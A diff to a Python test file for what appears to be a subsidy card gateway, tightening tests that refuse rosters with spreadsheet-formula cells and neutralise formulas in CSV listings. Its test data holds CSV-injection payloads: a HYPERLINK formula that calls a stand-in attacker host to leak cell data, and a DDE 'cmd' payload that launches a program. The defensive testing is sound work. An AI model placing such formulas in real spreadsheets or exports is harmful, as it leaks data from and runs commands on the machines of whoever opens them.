@@ -24,6 +24,9 @@ from gateway.auth import register_terminal
 from gateway.hotlist import listed
 from gateway.registry import SqliteCardRegistry
 from gateway.storage import open_storage
+from gateway.subsidy.catalogue import load_catalogue
+from gateway.subsidy.publication import publication_csv
+from gateway.subsidy.roster import RosterLine, RosterReport
 from simulators.statefile import write_state
 from terminal.cli.main import main as ykt
 from terminal.crypto.keyset import save_keysets
@@ -36,7 +39,6 @@ from tests.subsidy_kit import (
     admin,
     book_cards,
     id_number,
-    import_roster,
     roster,
 )
 
@@ -449,27 +451,34 @@ def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, shown):
     assert safe_cell(cell) == shown
 
 
-def test_a_publication_listing_carries_no_formula(gateway, clock):
+def test_a_roster_with_formula_cells_is_refused_and_listings_carry_none(gateway, clock):
     centre = Centre(gateway, clock)
     try:
         people = [('=HYPERLINK("http://evil.example/?"&A1)', id_number(7)), ("@cmd", id_number(8))]
         records = centre.issue(people)
         lines = [
             f'"{r.holder.name.replace(chr(34), chr(34) * 2)}",{r.holder.id_number},'
-            f"{r.card_number},E01,100,2026-10"
+            f"{r.card_number},H18,100,2026-10"
             for r in records
         ]
-        rid = import_roster(gateway, roster(*lines))["roster"]["id"]
-        text = admin(
+        r = admin(
             gateway,
-            "GET",
-            f"/v1/admin/subsidies/rosters/{rid}/publication",
-            params={"format": "csv"},
-        ).text
+            "POST",
+            "/v1/admin/subsidies/rosters",
+            params={"declared_by": "x"},
+            content=roster(*lines),
+        )
     finally:
         centre.close()
-    names = [line.split(",")[1] for line in text.splitlines()[1:]]
-    assert names == ["'=" + "*" * 36 + ")", "'@**d"]
+    assert r.status_code == 422 and r.json()["error"] == "bad_roster", r.text
+    assert r.json()["reason"].startswith("line 2: cell '=HYPERLINK")
+    assert "would run as a spreadsheet formula" in r.json()["reason"]
+    assert gateway.count("subsidy_rosters") == 0 and gateway.count("subsidy_lines") == 0
+    # a listing written from stored names neutralises them all the same
+    bad = RosterLine(
+        2, "=cmd|' /C calc'!A0", id_number(7), "3" * 19, load_catalogue().items["H18"], 1, "2026-10"
+    )
+    text = publication_csv(RosterReport([bad]))
     assert not any(
         cell.startswith(("=", "+", "-", "@")) for cell in text.replace("\n", ",").split(",")
     )
@@ -583,7 +592,7 @@ def test_ids_with_a_trailing_newline_are_refused_not_stored(gateway, journaled):
 
 
 def test_a_roster_with_a_nul_byte_is_refused_on_every_store(gateway):
-    body = b"name,id_number,card_number,item,amount_fen,period\n\xe5\xbc\xa0\x00,1,2,E01,1,2026\n"
+    body = b"name,id_number,card_number,item,amount_fen,period\n\xe5\xbc\xa0\x00,1,2,H18,1,2026\n"
     r = httpx.post(
         gateway.url + "/v1/admin/subsidies/rosters",
         params={"declared_by": "declarer"},
